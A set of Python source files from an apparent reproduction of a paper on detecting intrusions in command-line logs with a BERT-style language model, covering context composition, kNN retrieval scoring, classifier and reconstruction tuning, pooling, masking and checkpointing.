        composer: MultiLineComposer | None = None,
        **head_kwargs,
    ):
        super().__init__(encoder, **head_kwargs)
        self.composer = composer or MultiLineComposer()

    def fit_dataset(self, dataset: CommandDataset, labels: np.ndarray) -> "MultiLineClassificationTuner":
        """Fit on composed windows of *dataset* with per-record labels."""
        labels = np.asarray(labels, dtype=np.int64)
        if len(labels) != len(dataset):
            raise ValueError("labels must align with dataset records")
        composed = self.composer.compose_lines(dataset)
        self.fit(composed, labels)
        return self

    def score_dataset(self, dataset: CommandDataset) -> np.ndarray:
        """Scores aligned with *dataset* records (composition inside)."""
        composed = self.composer.compose_lines(dataset)
        return self.score(composed)
