"""Multi-line classification (Section IV-C): context-aware tuning.

"For classifying a particular command-line operation, several command
lines in the most recent past from the same user are additionally served
for reference, if their execution time is not too long ago.  These
command lines are concatenated with a shell command separator ';'."

:class:`MultiLineComposer` builds those context windows from a
:class:`~repro.loggen.dataset.CommandDataset`;
:class:`MultiLineClassificationTuner` is the probing classifier applied
to the composed inputs (the paper uses three temporally contiguous
lines).
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import timedelta

import numpy as np

from repro.lm.encoder_api import CommandEncoder
from repro.loggen.dataset import CommandDataset
from repro.tuning.classification import ClassificationTuner

#: Separator used to join context lines — "a shell command separator ';'".
SEPARATOR = " ; "


@dataclass(frozen=True)
class ComposedSample:
    """A context-augmented input for multi-line classification.

    Attributes
    ----------
    text:
        Up to ``window`` lines of the same user joined with ``;`` —
        oldest first, the line being classified last.
    record_index:
        Index of the classified (last) line in the source dataset.
    n_context:
        Number of context lines actually available (0 ≤ n < window).
    """

    text: str
    record_index: int
    n_context: int


class MultiLineComposer:
    """Build per-record context windows from user history.

    Parameters
    ----------
    window:
        Total lines per composed input ("three temporally contiguous
        command lines" in the paper's experiments).
    max_gap:
        Maximum age of a context line relative to the classified line
        ("if their execution time is not too long ago").  The default is
        deliberately tight: a generous gap lets a user's earlier attack
        session leak into the context of their later benign commands,
        which poisons composed labels.
    """

    def __init__(self, window: int = 3, max_gap: timedelta = timedelta(minutes=3)):
        if window < 1:
            raise ValueError("window must be >= 1")
        self.window = window
        self.max_gap = max_gap

    def compose(self, dataset: CommandDataset) -> list[ComposedSample]:
        """One :class:`ComposedSample` per record, in dataset order."""
        # per-user rolling history of (timestamp, line)
        history: dict[str, list[tuple]] = {}
        samples: list[ComposedSample] = []
        for index, record in enumerate(dataset):
            past = history.setdefault(record.user, [])
            recent = past[len(past) - (self.window - 1) :] if self.window > 1 else []
            context = [
                line for stamp, line in recent if record.timestamp - stamp <= self.max_gap
            ]
            text = SEPARATOR.join([*context, record.line])
            samples.append(ComposedSample(text=text, record_index=index, n_context=len(context)))
            past.append((record.timestamp, record.line))
            if len(past) > self.window * 4:  # bound memory per user
                del past[: len(past) - self.window * 2]
        return samples

    def compose_lines(self, dataset: CommandDataset) -> list[str]:
        """Just the composed texts, aligned with the dataset."""
        return [sample.text for sample in self.compose(dataset)]


class MultiLineClassificationTuner(ClassificationTuner):
    """Probing classifier over composed multi-line inputs.

    Identical head and recipe to single-line classification; only the
    input representation changes.  ``fit_dataset`` / ``score_dataset``
    accept :class:`CommandDataset` objects and run composition
    internally.
    """

    method_name = "classification_multi"

    def __init__(
        self,
        encoder: CommandEncoder,
        composer: MultiLineComposer | None = None,
        **head_kwargs,
    ):
        super().__init__(encoder, **head_kwargs)
        self.composer = composer or MultiLineComposer()

    def fit_dataset(self, dataset: CommandDataset, labels: np.ndarray) -> "MultiLineClassificationTuner":
        """Fit on composed windows of *dataset* with per-record labels."""
        labels = np.asarray(labels, dtype=np.int64)
        if len(labels) != len(dataset):
            raise ValueError("labels must align with dataset records")
        composed = self.composer.compose_lines(dataset)
        self.fit(composed, labels)
        return self

    def score_dataset(self, dataset: CommandDataset) -> np.ndarray:
        """Scores aligned with *dataset* records (composition inside)."""
        composed = self.composer.compose_lines(dataset)
        return self.score(composed)
