"""Retrieval-based detection (Section IV-D): modified kNN in embedding space.

The vanilla kNN recipe — majority vote among the k nearest training
neighbours — breaks under noisy supervision: a malicious test line whose
neighbours were all (mis)labeled benign is voted benign.  The paper's
modification scores each test line by the **average similarity to its k
nearest malicious-labeled neighbours only**, side-stepping benign-label
noise entirely.  Both variants are implemented; experiments use k = 1
("we performed 1NN").
"""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

from repro.lm.encoder_api import CommandEncoder
from repro.tuning.base import IntrusionScorer


def _normalize_rows(matrix: np.ndarray) -> np.ndarray:
    norms = np.linalg.norm(matrix, axis=1, keepdims=True)
    norms[norms == 0.0] = 1.0
    return matrix / norms


class RetrievalDetector(IntrusionScorer):
    """The paper's modified retrieval method.

    Score of a test line = mean cosine similarity to its *k* nearest
    **malicious-labeled** training lines (k = 1 by default).

    Parameters
    ----------
    encoder:
        Frozen pre-trained LM; no tuning happens ("it demands no tuning
        of the pre-trained model").
    k:
        Number of malicious neighbours to average over.
    """

    method_name = "retrieval"

    def __init__(self, encoder: CommandEncoder, k: int = 1, chunk_size: int = 1024):
        if k < 1:
            raise ValueError("k must be >= 1")
        self.encoder = encoder
        self.k = k
        self.chunk_size = chunk_size
        self._malicious: np.ndarray | None = None

    def fit(self, lines: Sequence[str], labels: np.ndarray) -> "RetrievalDetector":
        labels = np.asarray(labels, dtype=np.int64)
        lines = list(lines)
        positive_lines = [line for line, label in zip(lines, labels) if label == 1]
        if not positive_lines:
            raise ValueError("retrieval needs at least one malicious-labeled training line")
        embeddings = self.encoder.embed(positive_lines)
        return self.fit_embeddings_malicious(embeddings)

    def fit_embeddings_malicious(self, malicious_embeddings: np.ndarray) -> "RetrievalDetector":
        """Index precomputed embeddings of the malicious-labeled lines."""
        if malicious_embeddings.ndim != 2 or malicious_embeddings.shape[0] == 0:
            raise ValueError("malicious_embeddings must be a non-empty (N, D) matrix")
        self._malicious = _normalize_rows(np.asarray(malicious_embeddings, dtype=np.float64))
        self._fitted = True
        return self

    def score(self, lines: Sequence[str]) -> np.ndarray:
        self._check_fitted()
        return self.score_embeddings(self.encoder.embed(list(lines)))

    def score_embeddings(self, embeddings: np.ndarray) -> np.ndarray:
        """Mean top-k malicious cosine similarity per row."""
        self._check_fitted()
        assert self._malicious is not None
        queries = _normalize_rows(np.asarray(embeddings, dtype=np.float64))
        k = min(self.k, self._malicious.shape[0])
        scores = np.empty(queries.shape[0])
        for start in range(0, queries.shape[0], self.chunk_size):
            block = queries[start : start + self.chunk_size]
            similarity = block @ self._malicious.T  # (b, M)
            top = np.partition(similarity, similarity.shape[1] - k, axis=1)[:, -k:]
            scores[start : start + block.shape[0]] = top.mean(axis=1)
        return scores


class MajorityVoteKNN(IntrusionScorer):
    """The vanilla kNN baseline the paper argues against.

    Among the k nearest neighbours (any label): if the majority is
    malicious, the score is the mean similarity of the malicious
    neighbours; otherwise 0 ("it is treated as benign by the method").
    """

    method_name = "knn_majority"

    def __init__(self, encoder: CommandEncoder, k: int = 5, chunk_size: int = 1024):
        if k < 1:
            raise ValueError("k must be >= 1")
        self.encoder = encoder
        self.k = k
        self.chunk_size = chunk_size
        self._train: np.ndarray | None = None
        self._labels: np.ndarray | None = None

    def fit(self, lines: Sequence[str], labels: np.ndarray) -> "MajorityVoteKNN":
        labels = np.asarray(labels, dtype=np.int64)
        embeddings = self.encoder.embed(list(lines))
        return self.fit_embeddings(embeddings, labels)

    def fit_embeddings(self, embeddings: np.ndarray, labels: np.ndarray) -> "MajorityVoteKNN":
        """Index precomputed train embeddings with their noisy labels."""
        labels = np.asarray(labels, dtype=np.int64)
        if embeddings.shape[0] != labels.shape[0]:
            raise ValueError("embeddings and labels must align")
        self._train = _normalize_rows(np.asarray(embeddings, dtype=np.float64))
        self._labels = labels
        self._fitted = True
        return self

    def score(self, lines: Sequence[str]) -> np.ndarray:
        self._check_fitted()
        return self.score_embeddings(self.encoder.embed(list(lines)))

    def score_embeddings(self, embeddings: np.ndarray) -> np.ndarray:
        """Majority-gated malicious similarity per row."""
        self._check_fitted()
        assert self._train is not None and self._labels is not None
        queries = _normalize_rows(np.asarray(embeddings, dtype=np.float64))
        k = min(self.k, self._train.shape[0])
        scores = np.empty(queries.shape[0])
        for start in range(0, queries.shape[0], self.chunk_size):
            block = queries[start : start + self.chunk_size]
            similarity = block @ self._train.T
            top_idx = np.argpartition(similarity, similarity.shape[1] - k, axis=1)[:, -k:]
            for row in range(block.shape[0]):
                neighbours = top_idx[row]
                neighbour_labels = self._labels[neighbours]
                if neighbour_labels.sum() * 2 > k:  # strict majority malicious
                    malicious = neighbours[neighbour_labels == 1]
                    scores[start + row] = float(similarity[row, malicious].mean())
                else:
                    scores[start + row] = 0.0
        return scores
