"""Common interface for the supervised adaptation methods (Section IV)."""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

from repro.errors import NotFittedError


class IntrusionScorer:
    """Base: fit on (noisily) labeled lines, then score new lines.

    Scores are continuous with larger = more intrusion-like; the
    evaluation layer applies thresholds (:mod:`repro.ids.threshold`).
    """

    method_name: str = "base"
    _fitted: bool = False

    def fit(self, lines: Sequence[str], labels: np.ndarray) -> "IntrusionScorer":
        """Adapt to supervision; returns ``self``."""
        raise NotImplementedError

    def score(self, lines: Sequence[str]) -> np.ndarray:
        """Intrusion scores for *lines*."""
        raise NotImplementedError

    def _check_fitted(self) -> None:
        if not self._fitted:
            raise NotFittedError(f"{type(self).__name__} must be fitted before scoring")
