"""Classification-based tuning (Section IV-B): probing the frozen LM.

A shallow classification head — "a two-layer perceptron initialized by
Kaiming's method ... tuned with a learning rate of 5e-5 for 5 epochs
using AdamW, with the language model being frozen" — is placed on top of
the ``[CLS]`` embedding and trained to match the noisy labels (Eq. 3).

Because the backbone stays frozen, the head can be trained on
*precomputed* embeddings; this class caches them internally.
"""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import numpy as np

from repro.lm.encoder_api import CommandEncoder
from repro.nn import functional as F
from repro.nn.layers import MLP
from repro.nn.module import no_grad
from repro.nn.optim import AdamW
from repro.nn.serialization import load_module
from repro.nn.tensor import Tensor
from repro.tuning.base import IntrusionScorer


class ClassificationTuner(IntrusionScorer):
    """Probing classifier over frozen ``[CLS]`` embeddings.

    Parameters
    ----------
    encoder:
        The frozen pre-trained command-line LM wrapped in a
        :class:`CommandEncoder`.
    hidden_size:
        Width of the MLP's hidden layer (defaults to the embedding
        width).
    lr / epochs / weight_decay:
        AdamW recipe; paper defaults are ``lr=5e-5`` and ``epochs=5``
        (tuned for BERT-base — scaled-down models typically pass a
        larger ``lr``).
    batch_size:
        Head-training batch size.
    class_balance:
        When true (default), positives are oversampled to parity in each
        epoch — necessary because intrusions are ~1% of supervision.
    seed:
        Head init / shuffling seed.

    Example
    -------
    >>> tuner = ClassificationTuner(encoder, lr=1e-2)     # doctest: +SKIP
    >>> tuner.fit(train_lines, noisy_labels)              # doctest: +SKIP
    >>> scores = tuner.score(test_lines)                  # doctest: +SKIP
    """

    method_name = "classification"

    def __init__(
        self,
        encoder: CommandEncoder,
        hidden_size: int | None = None,
        lr: float = 5e-5,
        epochs: int = 5,
        weight_decay: float = 0.01,
        batch_size: int = 32,
        class_balance: bool = True,
        pooling: str = "cls",
        seed: int = 0,
    ):
        if epochs < 1:
            raise ValueError("epochs must be >= 1")
        self.encoder = encoder
        self.hidden_size = hidden_size or encoder.embedding_dim
        self.lr = lr
        self.epochs = epochs
        self.weight_decay = weight_decay
        self.batch_size = batch_size
        self.class_balance = class_balance
        self.pooling = pooling
        self.seed = seed
        self.head: MLP | None = None
        self.history: list[float] = []

    # ------------------------------------------------------------------

    def _embed(self, lines: Sequence[str]) -> np.ndarray:
        return self.encoder.embed(list(lines), pooling=self.pooling)

    def fit(self, lines: Sequence[str], labels: np.ndarray) -> "ClassificationTuner":
        embeddings = self._embed(lines)
        return self.fit_embeddings(embeddings, labels)

    def fit_embeddings(self, embeddings: np.ndarray, labels: np.ndarray) -> "ClassificationTuner":
        """Train the head on precomputed ``[CLS]`` embeddings."""
        labels = np.asarray(labels, dtype=np.int64)
        if embeddings.shape[0] != labels.shape[0]:
            raise ValueError("embeddings and labels must align")
        if labels.sum() == 0:
            raise ValueError("classification-based tuning needs at least one positive label")
        rng = np.random.default_rng(self.seed)
        self.head = MLP(
            embeddings.shape[1], self.hidden_size, 2, rng, activation="relu", init_scheme="kaiming"
        )
        optimizer = AdamW(self.head.parameters(), lr=self.lr, weight_decay=self.weight_decay)
        self.history = []
        positives = np.nonzero(labels == 1)[0]
        negatives = np.nonzero(labels == 0)[0]
        for _ in range(self.epochs):
            order = self._epoch_indices(rng, positives, negatives, len(labels))
            epoch_losses = []
            for start in range(0, len(order), self.batch_size):
                batch = order[start : start + self.batch_size]
                optimizer.zero_grad()
                logits = self.head(Tensor(embeddings[batch]))
                loss = F.cross_entropy(logits, labels[batch])
                loss.backward()
                optimizer.step()
                epoch_losses.append(loss.item())
            self.history.append(float(np.mean(epoch_losses)))
        self._fitted = True
        return self

    def _epoch_indices(
        self,
        rng: np.random.Generator,
        positives: np.ndarray,
        negatives: np.ndarray,
        n: int,
    ) -> np.ndarray:
        if not self.class_balance or positives.size == 0 or negatives.size == 0:
            return rng.permutation(n)
        oversampled = rng.choice(positives, size=negatives.size, replace=True)
        combined = np.concatenate([negatives, oversampled])
        return rng.permutation(combined)

    def restore_head(self, path: str | Path) -> "ClassificationTuner":
        """Rebuild the head with this tuner's geometry and load saved weights.

        The checkpoint must have been written by
        :func:`repro.nn.serialization.save_module` for a head of the same
        ``(embedding_dim, hidden_size)`` geometry; after this call the
        tuner scores exactly as the one that was saved.

        Raises
        ------
        CheckpointError
            If the checkpoint is missing, unreadable, or its geometry
            does not match this tuner's configuration.
        """
        head = MLP(
            self.encoder.embedding_dim,
            self.hidden_size,
            2,
            np.random.default_rng(self.seed),
            activation="relu",
            init_scheme="kaiming",
        )
        load_module(head, path)
        self.head = head
        self._fitted = True
        return self

    # ------------------------------------------------------------------

    def score(self, lines: Sequence[str]) -> np.ndarray:
        self._check_fitted()
        return self.score_embeddings(self._embed(lines))

    def score_embeddings(self, embeddings: np.ndarray) -> np.ndarray:
        """Intrusion probability from precomputed embeddings."""
        self._check_fitted()
        assert self.head is not None
        self.head.eval()
        with no_grad(self.head):
            logits = self.head(Tensor(embeddings)).data
        shifted = logits - logits.max(axis=1, keepdims=True)
        probabilities = np.exp(shifted)
        probabilities /= probabilities.sum(axis=1, keepdims=True)
        return probabilities[:, 1]

    def predict(self, lines: Sequence[str], threshold: float = 0.5) -> np.ndarray:
        """Hard decisions at *threshold* on the intrusion probability."""
        return (self.score(lines) >= threshold).astype(np.int64)
