"""Reconstruction-based tuning (Section IV-A): Eq. 2 alternating optimisation.

The method alternates between (a) fitting the PCA projection ``W`` on the
current embeddings via SVD, and (b) tuning the encoder ``f(·)`` so that
intrusion-labeled lines dominate the total reconstruction error:

.. math:: L_{Recons} = -\\log \\frac{\\sum_i L_{PCA}(t_i)\\, y_i}
                                     {\\sum_i L_{PCA}(t_i)}

with ``W`` held fixed during (b).  Five alternation rounds suffice per
the paper.  Scoring uses the final ``W`` and tuned encoder (Eq. 1).
"""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

from repro.anomaly.pca import PCAReconstructionDetector
from repro.lm.encoder_api import CommandEncoder
from repro.lm.model import CommandLineLM
from repro.nn.optim import AdamW, clip_grad_norm
from repro.nn.tensor import Tensor
from repro.tuning.base import IntrusionScorer


class ReconstructionTuner(IntrusionScorer):
    """Tune the encoder so intrusions reconstruct poorly under PCA.

    Parameters
    ----------
    encoder:
        The pre-trained LM wrapped in a :class:`CommandEncoder`; its
        backbone parameters ARE updated by this method (unlike probing).
    variance_kept:
        PCA energy retained when fitting ``W`` ("we let 95% of
        components to be kept", Section V).
    n_rounds:
        Alternating rounds ("repeating the process five times suffices").
    steps_per_round / batch_size / lr:
        Inner-loop optimisation settings for tuning ``f(·)``.
    positives_per_batch:
        Stratification: every batch carries this many positive samples
        so the Eq. 2 ratio is defined (a batch without intrusions has a
        degenerate loss).
    clone_backbone:
        When true (default) the encoder's model is deep-copied before
        tuning, so other methods sharing the pre-trained backbone are
        unaffected.  Set to false only when this tuner owns the model.
    seed:
        Sampling seed.
    """

    method_name = "reconstruction"

    def __init__(
        self,
        encoder: CommandEncoder,
        variance_kept: float = 0.95,
        n_rounds: int = 5,
        steps_per_round: int = 60,
        batch_size: int = 24,
        positives_per_batch: int = 8,
        lr: float = 1e-3,
        max_grad_norm: float = 1.0,
        clone_backbone: bool = True,
        seed: int = 0,
    ):
        if n_rounds < 1 or steps_per_round < 1:
            raise ValueError("n_rounds and steps_per_round must be >= 1")
        if positives_per_batch >= batch_size:
            raise ValueError("positives_per_batch must be smaller than batch_size")
        if clone_backbone:
            # Private copy of the backbone: Eq. 2 tuning updates f(·)
            # in place and must not leak into other methods.
            model = CommandLineLM(encoder.model.config)
            model.load_state_dict(encoder.model.state_dict())
            encoder = CommandEncoder(
                model, encoder.tokenizer, pooling=encoder.pooling, batch_size=encoder.batch_size
            )
        self.encoder = encoder
        self.variance_kept = variance_kept
        self.n_rounds = n_rounds
        self.steps_per_round = steps_per_round
        self.batch_size = batch_size
        self.positives_per_batch = positives_per_batch
        self.lr = lr
        self.max_grad_norm = max_grad_norm
        self.seed = seed
        self.detector: PCAReconstructionDetector | None = None
        self.history: list[float] = []

    # ------------------------------------------------------------------

    def fit(self, lines: Sequence[str], labels: np.ndarray) -> "ReconstructionTuner":
        labels = np.asarray(labels, dtype=np.int64)
        lines = list(lines)
        if len(lines) != len(labels):
            raise ValueError("lines and labels must align")
        positives = np.nonzero(labels == 1)[0]
        negatives = np.nonzero(labels == 0)[0]
        if positives.size == 0:
            raise ValueError("reconstruction-based tuning needs positive labels")
        rng = np.random.default_rng(self.seed)
        model = self.encoder.model
        optimizer = AdamW(model.parameters(), lr=self.lr, weight_decay=0.0)
        self.history = []
        benign_lines = [lines[i] for i in negatives]
        for _ in range(self.n_rounds):
            # (a) refit W by SVD.  W models the dominant (benign) corpus
            # distribution — the paper computes it from command-line
            # embeddings at large, where intrusions are a vanishing
            # fraction; fitting on the benign-labeled subset prevents the
            # subspace from rotating toward the embeddings the tuning
            # step just pushed away.
            embeddings = self.encoder.embed(benign_lines, pooling=self.encoder.pooling)
            detector = PCAReconstructionDetector(variance_kept=self.variance_kept)
            detector.fit(embeddings)
            self.detector = detector
            w = detector.components_
            mu = detector.mean_
            assert w is not None and mu is not None
            # (b) tune f(·) with W fixed
            model.train()
            for _ in range(self.steps_per_round):
                batch = self._stratified_batch(rng, positives, negatives)
                loss = self._recons_loss([lines[i] for i in batch], labels[batch], w, mu)
                optimizer.zero_grad()
                loss.backward()
                clip_grad_norm(model.parameters(), self.max_grad_norm)
                optimizer.step()
                self.history.append(loss.item())
            model.eval()
        # final W on the tuned (benign-distribution) embeddings
        embeddings = self.encoder.embed(benign_lines, pooling=self.encoder.pooling)
        final = PCAReconstructionDetector(variance_kept=self.variance_kept)
        final.fit(embeddings)
        self.detector = final
        self._fitted = True
        return self

    def _stratified_batch(
        self, rng: np.random.Generator, positives: np.ndarray, negatives: np.ndarray
    ) -> np.ndarray:
        n_positive = min(self.positives_per_batch, positives.size)
        n_negative = min(self.batch_size - n_positive, negatives.size)
        chosen_positive = rng.choice(positives, size=n_positive, replace=positives.size < n_positive * 2)
        chosen_negative = rng.choice(negatives, size=n_negative, replace=False)
        return np.concatenate([chosen_positive, chosen_negative])

    def _recons_loss(
        self, lines: list[str], labels: np.ndarray, w: np.ndarray, mu: np.ndarray
    ) -> Tensor:
        """Differentiable Eq. 2 over one batch (graph through the encoder)."""
        model = self.encoder.model
        ids, mask = self.encoder._encode_batch(lines)
        hidden = model(ids, mask)
        from repro.lm.pooling import pool  # local import avoids a cycle

        embedded = pool(hidden, mask, self.encoder.pooling)  # (B, D)
        centered = embedded - Tensor(mu)
        reconstructed = centered @ Tensor(w.T) @ Tensor(w)
        residual = centered - reconstructed
        per_sample = (residual**2).sum(axis=1)  # L_PCA per line
        weighted = (per_sample * Tensor(labels.astype(np.float64))).sum()
        total = per_sample.sum()
        # small epsilon guards against an all-benign degenerate batch
        ratio = (weighted + 1e-12) / (total + 1e-12)
        return -ratio.log()

    # ------------------------------------------------------------------

    def score(self, lines: Sequence[str]) -> np.ndarray:
        """Eq. 1 reconstruction error with the tuned encoder and final W."""
        self._check_fitted()
        assert self.detector is not None
        embeddings = self.encoder.embed(list(lines), pooling=self.encoder.pooling)
        return self.detector.score(embeddings)
