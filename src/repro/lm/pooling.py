"""Pooling strategies turning token embeddings into a command-line embedding.

Section III: "one can simply perform average pooling to aggregate
information in all token embeddings of the command line"; Section IV-B
uses the ``[CLS]`` embedding for classification-based tuning.
"""

from __future__ import annotations

import numpy as np

from repro.nn.tensor import Array, Tensor


def cls_pool(hidden: Tensor) -> Tensor:
    """The ``[CLS]`` (first-position) embedding: ``(B, T, D) → (B, D)``."""
    return hidden[:, 0, :]


def mean_pool(hidden: Tensor, attention_mask: Array) -> Tensor:
    """Average token embeddings over non-padding positions.

    Parameters
    ----------
    hidden:
        ``(B, T, D)`` token embeddings.
    attention_mask:
        ``(B, T)`` boolean validity mask; each row must contain at least
        one true entry.
    """
    mask = np.asarray(attention_mask, dtype=np.float64)
    counts = mask.sum(axis=1, keepdims=True)
    if (counts == 0).any():
        raise ValueError("attention_mask has rows with no valid positions")
    weights = mask / counts  # (B, T)
    # (B, 1, T) @ (B, T, D) -> (B, 1, D)
    pooled = Tensor(weights[:, None, :]) @ hidden
    return pooled.reshape(hidden.shape[0], hidden.shape[2])


POOLERS = ("mean", "cls")


def pool(hidden: Tensor, attention_mask: Array, strategy: str = "mean") -> Tensor:
    """Dispatch to :func:`mean_pool` or :func:`cls_pool` by name."""
    if strategy == "mean":
        return mean_pool(hidden, attention_mask)
    if strategy == "cls":
        return cls_pool(hidden)
    raise ValueError(f"unknown pooling strategy {strategy!r}; choose from {POOLERS}")
