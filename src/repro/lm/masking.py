"""Dynamic MLM masking and batch collation (RoBERTa recipe, Section II-B).

At every iteration each non-special token is selected for prediction
with probability ``q``; of the selected tokens 80% are replaced by
``[MASK]``, 10% by a random vocabulary token, and 10% kept unchanged.
Masking is re-drawn every epoch ("dynamic", as in RoBERTa).
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

import numpy as np

from repro.tokenizer.bpe import BPETokenizer

#: Loss-ignored target value for positions that are not being predicted.
IGNORE_INDEX = -100


@dataclass
class MLMBatch:
    """One collated MLM training batch.

    Attributes
    ----------
    input_ids:
        ``(B, T)`` corrupted token ids fed to the model.
    labels:
        ``(B, T)`` original ids at masked positions, ``IGNORE_INDEX``
        elsewhere.
    attention_mask:
        ``(B, T)`` boolean, true at non-padding positions.
    """

    input_ids: np.ndarray
    labels: np.ndarray
    attention_mask: np.ndarray

    @property
    def n_predictions(self) -> int:
        """Number of positions contributing to the loss."""
        return int((self.labels != IGNORE_INDEX).sum())


class MLMCollator:
    """Pad, mask, and batch tokenized command lines.

    Parameters
    ----------
    tokenizer:
        A trained :class:`BPETokenizer` (provides special-token ids).
    mask_prob:
        Per-token masking probability ``q``.
    max_length:
        Hard cap on sequence length (defaults to no extra cap).
    seed:
        Seed of the internal generator that draws masks.
    """

    def __init__(
        self,
        tokenizer: BPETokenizer,
        mask_prob: float = 0.15,
        max_length: int | None = None,
        seed: int = 0,
    ):
        if not 0.0 < mask_prob < 1.0:
            raise ValueError("mask_prob must be in (0, 1)")
        vocab = tokenizer.vocab
        if vocab is None:
            raise ValueError("tokenizer must be trained before collation")
        self.tokenizer = tokenizer
        self.mask_prob = mask_prob
        self.max_length = max_length
        self._rng = np.random.default_rng(seed)
        self._pad_id = vocab.pad_id
        self._mask_id = vocab.mask_id
        self._special_ids = np.array(sorted(vocab.special_ids))
        self._vocab_size = len(vocab)

    def encode_lines(self, lines: Sequence[str]) -> list[list[int]]:
        """Tokenize *lines* with special tokens and truncation."""
        return [
            self.tokenizer.encode(line, add_special_tokens=True, max_length=self.max_length).ids
            for line in lines
        ]

    def pad(self, sequences: Sequence[Sequence[int]]) -> tuple[np.ndarray, np.ndarray]:
        """Right-pad *sequences* to a rectangle; return (ids, attention_mask)."""
        if not sequences:
            raise ValueError("cannot pad an empty batch")
        width = max(len(seq) for seq in sequences)
        ids = np.full((len(sequences), width), self._pad_id, dtype=np.int64)
        mask = np.zeros((len(sequences), width), dtype=bool)
        for row, seq in enumerate(sequences):
            ids[row, : len(seq)] = seq
            mask[row, : len(seq)] = True
        return ids, mask

    def mask_batch(self, ids: np.ndarray, attention_mask: np.ndarray) -> MLMBatch:
        """Apply dynamic 80/10/10 masking to a padded id matrix."""
        input_ids = ids.copy()
        labels = np.full_like(ids, IGNORE_INDEX)
        special = np.isin(ids, self._special_ids)
        eligible = attention_mask & ~special
        draw = self._rng.random(ids.shape)
        selected = eligible & (draw < self.mask_prob)
        labels[selected] = ids[selected]
        # Split the selected positions 80/10/10.
        action = self._rng.random(ids.shape)
        mask_positions = selected & (action < 0.8)
        random_positions = selected & (action >= 0.8) & (action < 0.9)
        input_ids[mask_positions] = self._mask_id
        n_random = int(random_positions.sum())
        if n_random:
            input_ids[random_positions] = self._rng.integers(
                len(self._special_ids), self._vocab_size, size=n_random
            )
        return MLMBatch(input_ids=input_ids, labels=labels, attention_mask=attention_mask)

    def collate(self, lines: Sequence[str]) -> MLMBatch:
        """Tokenize, pad, and mask a batch of raw command lines."""
        ids, mask = self.pad(self.encode_lines(lines))
        return self.mask_batch(ids, mask)
