"""Bundle persistence: config + model weights + tokenizer in one directory."""

from __future__ import annotations

from pathlib import Path

from repro.errors import CheckpointError
from repro.lm.config import LMConfig
from repro.lm.model import CommandLineLM
from repro.nn.serialization import load_module, save_module
from repro.tokenizer.bpe import BPETokenizer
from repro.tokenizer.serialization import load_tokenizer, save_tokenizer

_CONFIG_FILE = "config.json"
_WEIGHTS_FILE = "weights.npz"
_TOKENIZER_FILE = "tokenizer.json"


def save_pretrained(directory: str | Path, model: CommandLineLM, tokenizer: BPETokenizer) -> None:
    """Write model config, weights, and tokenizer under *directory*."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    model.config.to_json(directory / _CONFIG_FILE)
    save_module(model, directory / _WEIGHTS_FILE)
    save_tokenizer(tokenizer, directory / _TOKENIZER_FILE)


def load_pretrained(directory: str | Path) -> tuple[CommandLineLM, BPETokenizer]:
    """Restore the (model, tokenizer) bundle written by :func:`save_pretrained`."""
    directory = Path(directory)
    for filename in (_CONFIG_FILE, _WEIGHTS_FILE, _TOKENIZER_FILE):
        if not (directory / filename).exists():
            raise CheckpointError(f"missing {filename} in checkpoint directory {directory}")
    config = LMConfig.from_json(directory / _CONFIG_FILE)
    model = CommandLineLM(config)
    load_module(model, directory / _WEIGHTS_FILE)
    tokenizer = load_tokenizer(directory / _TOKENIZER_FILE)
    model.eval()
    return model, tokenizer
