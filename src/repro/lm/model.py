"""The command-line language model: a BERT-style MLM encoder.

``CommandLineLM`` maps token-id sequences to per-token embeddings
("token embeddings" in the paper's terminology); ``MLMHead`` projects
them back to vocabulary logits for masked-token reconstruction.
"""

from __future__ import annotations

import numpy as np

from repro.lm.config import LMConfig
from repro.nn import functional as F
from repro.nn.layers import Dropout, Embedding, LayerNorm, Linear
from repro.nn.module import Module
from repro.nn.tensor import Array, Tensor
from repro.nn.transformer import TransformerEncoder


class MLMHead(Module):
    """Masked-language-modeling head: dense → GELU → LayerNorm → vocab."""

    def __init__(self, config: LMConfig, rng: np.random.Generator):
        super().__init__()
        self.dense = Linear(config.hidden_size, config.hidden_size, rng)
        self.norm = LayerNorm(config.hidden_size)
        self.decoder = Linear(config.hidden_size, config.vocab_size, rng)

    def forward(self, hidden: Tensor) -> Tensor:
        return self.decoder(self.norm(F.gelu(self.dense(hidden))))


class CommandLineLM(Module):
    """BERT-style transformer encoder over command-line tokens.

    Forward input is an integer id array ``(B, T)`` plus a boolean
    attention mask ``(B, T)`` marking real (non-padding) tokens; output
    is the final hidden states ``(B, T, hidden_size)``.

    Example
    -------
    >>> config = LMConfig.tiny(vocab_size=100)
    >>> model = CommandLineLM(config)
    >>> hidden = model(np.zeros((2, 8), dtype=int))
    >>> hidden.shape
    (2, 8, 32)
    """

    def __init__(self, config: LMConfig):
        super().__init__()
        self.config = config
        rng = np.random.default_rng(config.seed)
        self.token_embedding = Embedding(config.vocab_size, config.hidden_size, rng)
        self.position_embedding = Embedding(config.max_position, config.hidden_size, rng)
        self.embedding_norm = LayerNorm(config.hidden_size)
        self.embedding_dropout = Dropout(config.dropout, np.random.default_rng(rng.integers(2**31)))
        self.encoder = TransformerEncoder(
            n_layers=config.n_layers,
            hidden_size=config.hidden_size,
            n_heads=config.n_heads,
            intermediate_size=config.intermediate_size,
            rng=rng,
            dropout=config.dropout,
        )
        self.mlm_head = MLMHead(config, rng)

    def forward(self, ids: Array, attention_mask: Array | None = None) -> Tensor:
        """Encode token ids into hidden states ``(B, T, D)``."""
        ids = np.asarray(ids)
        if ids.ndim != 2:
            raise ValueError(f"ids must be (batch, seq), got shape {ids.shape}")
        batch, seq = ids.shape
        if seq > self.config.max_position:
            raise ValueError(f"sequence length {seq} exceeds max_position {self.config.max_position}")
        positions = np.broadcast_to(np.arange(seq), (batch, seq))
        embedded = self.token_embedding(ids) + self.position_embedding(positions)
        embedded = self.embedding_dropout(self.embedding_norm(embedded))
        return self.encoder(embedded, attention_mask)

    def mlm_logits(self, ids: Array, attention_mask: Array | None = None) -> Tensor:
        """Vocabulary logits ``(B, T, V)`` for MLM training."""
        return self.mlm_head(self.forward(ids, attention_mask))
