"""High-level embedding API: command line text → fixed-size vector.

